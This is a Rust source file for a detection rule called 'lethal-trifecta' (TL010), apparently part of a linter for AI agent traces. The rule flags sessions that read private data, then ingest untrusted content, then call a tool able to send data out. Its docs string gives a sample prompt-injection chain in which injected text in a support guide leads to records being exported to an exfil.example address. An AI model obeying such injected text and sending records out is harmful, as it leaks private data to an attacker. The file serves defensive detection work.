//! TL010 lethal-trifecta: in one conversation, private data read, then untrusted content
//! ingested, then an exfiltration-capable tool called.

use super::groups::Groups;
use super::{Coverage, Finding, Partial, Rule, RuleDocs, RuleInput, RuleOutcome, Severity};
use crate::model::{Call, CallKind, Scope};

pub struct LethalTrifecta;

static DOCS: RuleDocs = RuleDocs {
    what: "One conversation (else agent run, else trace) reads private data (a tool tagged \
           `private-data` in the policy file), then ingests untrusted content (any resources/read \
           or prompts/get result, or a tool that is open-world by annotation or tagged \
           `untrusted`, unless tagged `trusted`), then calls an exfiltration-capable tool (tagged \
           `exfiltration`, or open-world and not read-only by annotation), in that order.",
    why: "This is the prompt-injection exfiltration pattern: text the attacker controls reaches \
          the model after it has seen private data, and the model can then send data out. Each \
          step looks harmless on its own.",
    example: "conv-9: get_ticket(T-4711) (private-data) -> resources/read \
              acme-support://guide/overheating (user-contributed text with an injected \
              instruction) -> export_service_records(recipient=records-backup@exfil.example).",
    fix: "Break one leg: require approval for exfiltration-capable tools after untrusted content \
          entered the context, keep untrusted content out of sessions that hold private data, \
          or remove the outbound tool from that agent's catalog. Tag tools in the policy file \
          (private-data, untrusted, trusted, exfiltration) so the rule can see the legs.",
};

/// Conversations (scopes with a tool call) examined.
const SCOPES: &str = "scopes";

impl Rule for LethalTrifecta {
    fn code(&self) -> &'static str {
        "TL010"
    }
    fn name(&self) -> &'static str {
        "lethal-trifecta"
    }
    fn severity(&self) -> Severity {
        Severity::Critical
    }
    fn docs(&self) -> &'static RuleDocs {
        &DOCS
    }

    fn scan(&self, input: &RuleInput) -> Partial {
        let model = input.model;
        let mut groups: Groups<Scope, &Call> = Groups::default();
        for call in &model.calls {
            groups.push(model.call_scope(call), call);
        }
        // Each finding is on a call of one scope, so the scopes' order does not reach the report.
        let mut scopes = groups.into_first_seen();
        scopes.retain(|(_, calls)| calls.iter().any(|c| c.is_tool()));
        // A scope (conversation, agent run, trace) is judged by the window owning its first
        // call: its calls are all in that window.
        scopes.retain(|(_, calls)| input.owns(calls[0].anchor));
        let mut out = Partial::default();
        out.add(SCOPES, scopes.len());
        let mut findings = Vec::new();
        for (_, calls) in &scopes {
            let mut private: Option<&Call> = None;
            let mut untrusted: Option<&Call> = None;
            for call in calls {
                let tool = call.tool.as_deref().unwrap_or("");
                if private.is_none() {
                    if call.is_tool() && input.has_tag(tool, "private-data") {
                        private = Some(call);
                    }
                    continue;
                }
                if untrusted.is_none() {
                    if is_untrusted(input, call) {
                        untrusted = Some(call);
                    }
                    continue;
                }
                if call.is_tool() && is_exfiltration(input, tool) {
                    let (Some(p), Some(u)) = (private, untrusted) else {
                        continue;
                    };
                    let u_desc = match &u.kind {
                        CallKind::Tool => u.tool.as_deref().unwrap_or_default().to_string(),
                        CallKind::Request(m) => m.clone(),
                    };
                    findings.push(
                        Finding::at(
                            self,
                            model,
                            call.anchor,
                            format!(
                                "private data read by {}, then untrusted content from {u_desc}, then {tool} can send it out",
                                p.tool.as_deref().unwrap_or("?")
                            ),
                        )
                        .with_tool(Some(tool))
                        .with_related(
                            model,
                            [p.anchor]
                                .into_iter()
                                .chain(u.members.iter().copied()),
                        ),
                    );
                    break;
                }
            }
        }
        out.findings = findings;
        out
    }

    fn finish(&self, partial: Partial, input: &RuleInput) -> RuleOutcome {
        let scopes = partial.count(SCOPES);
        let mut cov = Coverage::new(scopes);
        let private_known = input
            .policy
            .tools
            .values()
            .any(|t| t.tags.iter().any(|g| g == "private-data"));
        let exfil_known = input
            .policy
            .tools
            .values()
            .any(|t| t.tags.iter().any(|g| g == "exfiltration"))
            || input
                .catalog
                .tools
                .values()
                .any(|d| d.open_world_hint.is_some());
        if !private_known || !exfil_known {
            let mut missing = Vec::new();
            if !private_known {
                missing.push("no tool is tagged private-data");
            }
            if !exfil_known {
                missing.push("no tool is tagged exfiltration and no openWorldHint was observed");
            }
            cov.not_observable(
                scopes,
                format!(
                    "{}: the chain cannot be recognised in {} of {} conversations; tag tools in the policy file",
                    missing.join(" and "),
                    scopes,
                    scopes
                ),
            );
        }
        RuleOutcome::new(partial.findings, cov)
    }
}

fn is_untrusted(input: &RuleInput, call: &Call) -> bool {
    match &call.kind {
        CallKind::Request(m) => m == "resources/read" || m == "prompts/get",
        CallKind::Tool => {
            let tool = call.tool.as_deref().unwrap_or("");
            if input.has_tag(tool, "trusted") {
                return false;
            }
            input.has_tag(tool, "untrusted")
                || input
                    .catalog
                    .get(tool)
                    .is_some_and(|d| d.open_world_hint == Some(true))
        }
    }
}

fn is_exfiltration(input: &RuleInput, tool: &str) -> bool {
    input.has_tag(tool, "exfiltration")
        || input
            .catalog
            .get(tool)
            .is_some_and(|d| d.open_world_hint == Some(true) && d.read_only_hint != Some(true))
}
